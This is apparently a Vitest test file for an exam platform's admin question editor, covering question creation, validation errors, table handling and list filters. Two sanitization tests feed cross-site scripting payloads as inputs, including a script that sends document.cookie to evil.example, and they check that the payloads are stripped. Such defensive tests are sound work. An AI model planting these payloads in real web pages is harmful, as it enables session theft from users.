// Questions in the editor: adding each type (with an image from our uploads), the refusals,
// hostile HTML, and the lists of a subject's questions and of every question.
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, questions } from '../../db/schema';
import { createExamTree, singleChoice, type Envelope } from '../../test/content-fixtures';
import {
  openQuestionEditor,
  questionCalls,
  type Question,
  type QuestionEditor,
} from '../../test/question-fixtures';
import type { TestContext } from '../../test/test-app';

describe('questions', () => {
  let context: TestContext;
  let admin: QuestionEditor['admin'];
  let tree: QuestionEditor['tree'];
  let imageUrl: string;

  beforeAll(async () => {
    ({ context, admin, tree, imageUrl } = await openQuestionEditor());
  });
  afterAll(() => context.close());

  const { create, created } = questionCalls(() => ({ admin, tree }));

  describe('add', () => {
    it('adds a question of each type with an image from our uploads', async () => {
      const single = await created({
        ...singleChoice(),
        question: `<p>Which drug is an opioid?</p><p><img src="${imageUrl}" alt="chart"></p>`,
      });
      expect(single).toMatchObject({
        type: 'single_choice',
        question: `<p>Which drug is an opioid?</p><p><img src="${imageUrl}" alt="chart" /></p>`,
        answer: null,
        examName: 'Questions exam',
        courseName: 'Pharmacology',
        subjectName: 'Analgesics',
      });
      expect(
        single.options.map((option) => [option.value, option.answer, option.selected]),
      ).toEqual([
        ['Paracetamol', false, 0],
        ['Morphine', true, 0],
        ['Ibuprofen', false, 0],
        ['Aspirin', false, 0],
      ]);

      const multiple = await created({
        type: 'multiple_choice',
        question: '<p>Which are NSAIDs?</p>',
        options: [
          { value: 'Ibuprofen', answer: true },
          { value: 'Naproxen', answer: true },
          { value: 'Codeine', answer: false },
        ],
      });
      expect(multiple.options.filter((option) => option.answer)).toHaveLength(2);
      expect(multiple.explanation).toBe('');

      const blank = await created({
        type: 'fill_in_the_blanks',
        question: '<p>Normal resting heart rate is 60 to ___ bpm.</p>',
        answer: ' 100 ',
        options: [],
      });
      expect(blank).toMatchObject({ answer: '100', options: [] });

      const [audit] = await context.db
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.entityId, blank.id), eq(auditLog.action, 'created')));
      expect(audit?.adminId).toBe(admin.id);
    });

    it.each([
      [
        'no question',
        { ...singleChoice(), question: '<p></p>' },
        'question',
        'Question is required',
      ],
      [
        'one option',
        { ...singleChoice(), options: [{ value: 'Only', answer: true }] },
        'options',
        'Add at least 2 options',
      ],
      [
        'an empty option',
        {
          ...singleChoice(),
          options: [
            { value: 'A', answer: true },
            { value: '<p> </p>', answer: false },
          ],
        },
        'options.1.value',
        'Option b is required',
      ],
      [
        'no correct answer',
        {
          ...singleChoice(),
          options: [
            { value: 'A', answer: false },
            { value: 'B', answer: false },
          ],
        },
        'answer',
        'Choose the correct answer',
      ],
      [
        'two answers to a single choice',
        {
          ...singleChoice(),
          options: [
            { value: 'A', answer: true },
            { value: 'B', answer: true },
          ],
        },
        'answer',
        'A single choice question has one correct answer',
      ],
      [
        'no answer to a multiple choice',
        {
          type: 'multiple_choice',
          question: 'Q',
          options: [
            { value: 'A', answer: false },
            { value: 'B', answer: false },
          ],
        },
        'answer',
        'Choose at least one correct answer',
      ],
      [
        'no answer text',
        { type: 'fill_in_the_blanks', question: 'Q', answer: '' },
        'answer',
        'Answer is required',
      ],
      [
        'options on a fill in the blanks',
        {
          type: 'fill_in_the_blanks',
          question: 'Q',
          answer: 'x',
          options: [{ value: 'A', answer: true }],
        },
        'options',
        'A fill in the blanks question has an answer text, not options',
      ],
      ['an unknown type', { ...singleChoice(), type: 'essay' }, 'type', 'Choose a question type'],
      [
        'eleven options',
        {
          ...singleChoice(),
          options: Array.from({ length: 11 }, (_, i) => ({ value: `o${i}`, answer: i === 0 })),
        },
        'options',
        'A question has at most 10 options',
      ],
    ])('refuses %s', async (_name, body, path, message) => {
      const response = await create(body);
      expect(response.statusCode).toBe(400);
      expect(
        response.json<{ details: { path: string; message: string }[] }>().details,
      ).toContainEqual({
        path,
        message,
      });
    });

    it('sanitizes hostile HTML in every rich-text field before storing it', async () => {
      const question = await created({
        type: 'single_choice',
        question:
          '<p onclick="steal()">Dose?<script>fetch("//evil.example?c="+document.cookie)</script></p><img src="https://evil.example/p.png"><iframe src="https://evil.example"></iframe>',
        explanation: '<a href="javascript:alert(1)">see</a><img src=x onerror=alert(1)>',
        options: [
          { value: '<b onmouseover="x()">5 mg</b>', answer: true },
          { value: '10 mg<style>*{display:none}</style>', answer: false },
        ],
      });
      expect(question.question).toBe('<p>Dose?</p>');
      expect(question.explanation).toBe('<a rel="noopener noreferrer nofollow">see</a>');
      expect(question.options.map((option) => option.value)).toEqual(['<b>5 mg</b>', '10 mg']);
      const [stored] = await context.db
        .select()
        .from(questions)
        .where(eq(questions.id, question.id));
      expect(stored?.questionHtml).toBe('<p>Dose?</p>');
    });

    it('keeps a table as the editor writes it, in the question, the explanation and an exhibit', async () => {
      // What the editor reports for a 2 × 2 table with a header row; its widths are not kept.
      const written =
        '<table style="min-width: 50px;"><colgroup><col style="min-width: 25px;"><col style="min-width: 25px;"></colgroup>' +
        '<tbody><tr><th><p>Time</p></th><th><p>BP</p></th></tr><tr><td><p>08:00</p></td><td><p>90/60</p></td></tr></tbody></table><p></p>';
      const stored =
        '<table><colgroup><col /><col /></colgroup>' +
        '<tbody><tr><th><p>Time</p></th><th><p>BP</p></th></tr><tr><td><p>08:00</p></td><td><p>90/60</p></td></tr></tbody></table><p></p>';
      const question = await created({
        ...singleChoice(),
        question: written,
        explanation: written,
        layout: { exhibits: [{ title: 'Vital signs', html: written }] },
      });
      expect(question.question).toBe(stored);
      expect(question.explanation).toBe(stored);
      expect(question.layout).toEqual({ exhibits: [{ title: 'Vital signs', html: stored }] });
    });

    it('refuses a question that is nothing but hostile HTML', async () => {
      const response = await create({
        ...singleChoice(),
        question: '<script>alert(1)</script><img src="https://evil.example/x.png">',
      });
      expect(response.statusCode).toBe(400);
      expect(response.json<{ message: string }>().message).toBe('Question is required');
    });

    it('needs a live subject', async () => {
      expect(
        (await create(singleChoice(), '00000000-0000-4000-8000-000000000000')).statusCode,
      ).toBe(404);
    });
  });

  describe('lists', () => {
    it("lists a subject's questions and every question with filters, search and pages", async () => {
      const other = await createExamTree(admin, 'Other exam');
      await admin.post(`/admin/exam/subject/${other.subjectId}/question`, {
        type: 'fill_in_the_blanks',
        question: '<p>Unique zebra question</p>',
        answer: 'zebra',
      });
      const ofSubject = await admin.get(`/admin/exam/subject/${tree.subjectId}/question`, {
        perPage: '2',
      });
      expect(ofSubject.statusCode).toBe(200);
      const body =
        ofSubject.json<Envelope<{ questions: Question[]; pagination: { total: number } }>>();
      expect(body.data.questions).toHaveLength(2);
      expect(body.data.questions.every((question) => question.subjectId === tree.subjectId)).toBe(
        true,
      );
      expect(body.data.pagination.total).toBeGreaterThanOrEqual(4);

      const all = await admin.get('/admin/question', { search: 'zebra' });
      expect(
        all.json<Envelope<{ questions: Question[] }>>().data.questions.map((q) => q.examName),
      ).toEqual(['Other exam']);
      const byExam = await admin.get('/admin/question', { examId: other.examId });
      expect(byExam.json<Envelope<{ questions: Question[] }>>().data.questions).toHaveLength(1);
      const byType = await admin.get('/admin/question', {
        type: 'multiple_choice',
        examId: tree.examId,
      });
      expect(
        byType
          .json<Envelope<{ questions: Question[] }>>()
          .data.questions.every((q) => q.type === 'multiple_choice'),
      ).toBe(true);
      const byCourse = await admin.get('/admin/question', { courseId: other.courseId });
      expect(byCourse.json<Envelope<{ questions: Question[] }>>().data.questions).toHaveLength(1);
      expect((await admin.get('/admin/question', { type: 'essay' })).statusCode).toBe(400);
      expect((await admin.get('/admin/question', { examId: 'x' })).statusCode).toBe(400);
    });
  });
});
